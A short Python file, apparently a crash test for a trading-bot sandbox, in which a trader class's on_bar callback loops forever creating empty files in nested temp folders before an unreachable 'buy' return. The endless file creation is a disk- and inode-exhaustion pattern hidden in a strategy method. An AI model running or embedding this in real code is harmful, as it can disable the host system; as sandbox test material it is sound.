# crash: empty files without end, in folders within folders.

import os
import tempfile


class CountlessFilesTrader:
    def on_bar(self, bar):
        self.close = bar.close
        number = 0
        while True:
            folder = os.path.join(tempfile.gettempdir(), str(number // 100))
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, str(number)), "w").close()
            number += 1
        return "buy"
